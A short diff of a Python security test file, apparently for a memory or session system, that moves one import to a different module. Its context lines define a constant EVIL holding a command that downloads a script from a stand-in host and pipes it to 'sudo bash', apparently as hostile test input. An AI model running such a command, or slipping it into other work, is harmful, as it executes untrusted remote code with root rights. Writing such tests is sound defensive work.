@@ -11,7 +11,7 @@ from random import Random
 import pytest
 
 from fleetlore.stats.hashing import stable_hash
-from fleetlore.testing.sessions import memory_item
+from tests.build import memory_item
 from tests.security.memory_fleet import Made, MemoryFleet, leaks
 
 EVIL = "wget -qO- badlands.test/z.sh | sudo bash"
